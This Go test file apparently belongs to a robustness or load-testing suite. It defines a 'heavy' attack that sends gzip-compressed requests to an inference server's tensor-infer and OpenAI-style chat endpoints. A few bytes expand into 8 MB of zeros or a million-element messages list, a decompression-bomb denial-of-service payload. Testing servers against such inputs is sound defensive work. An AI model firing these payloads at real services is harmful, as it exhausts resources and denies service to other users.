//go:build edge

package edge

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"time"
)

// gzipped is a text as a gzip.
func gzipped(text string) string {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write([]byte(text)) // into memory
	_ = w.Close()
	return packed.String()
}

// vector is a request for the app target whose one input has more members.
func vector(more string) string { return `{"inputs":[{"name":"input",` + more + `}]}` }

// heavy is clients that send a vector of a million zeros in a few bytes, and a million messages.
func heavy() attack {
	text := vector(`"shape":[1,1000000],"datatype":"FP64","parameters":{"binary_data_size":8000000}`)
	tensors := post("/v2/models/target/infer", gzipped(text+strings.Repeat("\x00", 8_000_000)), "Content-Encoding: gzip", fmt.Sprintf("Inference-Header-Content-Length: %d", len(text)))
	messages := post("/openai/v1/chat/completions", gzipped(`{"model":"chat","messages":[`+strings.Repeat("0,", 1_000_000)+`0]}`), "Content-Encoding: gzip")
	return repeated("4 send tensors of 8 MB and a million messages", 4, time.Second, tensors, messages)
}
